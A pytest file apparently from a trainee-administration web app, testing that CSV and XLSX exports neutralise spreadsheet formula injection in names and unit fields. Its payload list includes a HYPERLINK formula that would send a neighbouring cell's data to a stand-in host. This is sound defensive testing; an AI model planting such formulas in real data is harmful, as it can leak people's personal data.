"""Issue 17 item 4: a name that starts like a formula never becomes one in an export.

Anyone whose name the study director exports could call themselves
`=HYPERLINK(...)`; opened in a spreadsheet, that formula can send the next
row's personal data away. The CSV must carry such text with a leading `'`
and the XLSX as a text cell, while dates stay dates and numbers numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from obligations import snapshot
from stprogram import exports
from tests.factories import AssignmentFactory, TraineeFactory
from trainees.models import Trainee

PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&B3,"y")',
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "=1+1",
]
UNIT = "\t=2+5 Vårdcentral"


@pytest.fixture
def hostile(world) -> list[str]:
    """Trainees in the study director's unit whose first names are formulas; their full names."""
    world.unit.name = UNIT
    world.unit.save()
    names = []
    for index, payload in enumerate(PAYLOADS):
        trainee = TraineeFactory(home_unit=world.unit, user__email=f"t{index}@blekinge.test")
        trainee.user.first_name, trainee.user.last_name = payload, f"Efternamn{index}"
        trainee.user.save()
        AssignmentFactory(trainee=trainee, user=world.study_director, role="study_director")
        names.append(trainee.user.get_full_name())
    for pk in Trainee.unscoped.values_list("pk", flat=True):
        snapshot.refresh_trainee(pk)
    return names


def test_the_csv_export_quotes_every_formula_like_name(world, hostile, login):
    response = login(world.study_director).get("/blekinge/studierektor/export.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) >= {f"'{name}" for name in hostile}
    for row in rows[1:]:
        assert not row[0].startswith(exports.FORMULA_STARTS)
        assert row[1] == f"'{UNIT}"
    start = rows[0].index("Start")
    assert by_name["Trainee Traineeblekinge"][start] == "2025-01-13"


def test_the_xlsx_export_writes_formula_like_names_as_text(world, hostile, login):
    response = login(world.study_director).get("/blekinge/studierektor/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert {row[0].value for row in rows} >= set(hostile)
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    for row in rows:
        assert row[0].data_type == "s"
        assert row[1].value == UNIT
        if row[0].value in hostile:
            assert row[0].quotePrefix  # stays text even when the reader edits the cell
    start = [c.value for c in sheet[1]].index("Start")
    assert rows[0][start].is_date
    assert rows[0][start].value == datetime(2025, 1, 13)


def test_numbers_and_dates_stay_numbers_and_dates():
    table = [["Namn", "Antal", "Saldo", "Datum"], ["-2+3", 3, -2.5, date(2026, 1, 31)]]
    csv_rows = list(
        csv.reader(
            io.StringIO(exports.csv_response(table, filename="x").content.decode("utf-8-sig")),
            delimiter=";",
        )
    )
    assert csv_rows[1] == ["'-2+3", "3", "-2.5", "2026-01-31"]
    response = exports.xlsx_response(table, filename="x", sheet_title="Blad")
    cells = load_workbook(io.BytesIO(response.content)).active[2]
    assert [c.data_type for c in cells] == ["s", "n", "n", "d"]
    assert [c.value for c in cells] == ["-2+3", 3, -2.5, datetime(2026, 1, 31)]
